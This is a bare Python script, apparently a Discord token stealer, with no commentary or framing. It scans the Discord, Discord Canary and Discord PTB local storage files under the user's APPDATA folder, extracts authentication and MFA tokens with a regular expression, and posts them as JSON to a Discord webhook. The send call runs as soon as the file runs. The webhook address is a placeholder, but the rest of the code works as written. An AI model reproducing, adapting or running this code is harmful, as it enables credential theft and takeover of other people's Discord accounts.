import os
import re
from urllib.request import Request, urlopen

WEBHOOK_URL = "https://discord.com/api/webhooks/333333333333333333/defanged"
TOKEN = re.compile(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}")


def find_tokens():
    roaming = os.getenv("APPDATA", "")
    tokens = []
    for app in ("discord", "discordcanary", "discordptb"):
        path = os.path.join(roaming, app, "Local Storage", "leveldb")
        if not os.path.isdir(path):
            continue
        for name in os.listdir(path):
            if name.endswith((".log", ".ldb")):
                text = open(os.path.join(path, name), errors="ignore").read()
                tokens.extend(TOKEN.findall(text))
    return tokens


def send():
    body = ("{\"content\": \"%s\"}" % " ".join(find_tokens())).encode()
    urlopen(Request(WEBHOOK_URL, data=body, headers={"Content-Type": "application/json"}))


send()
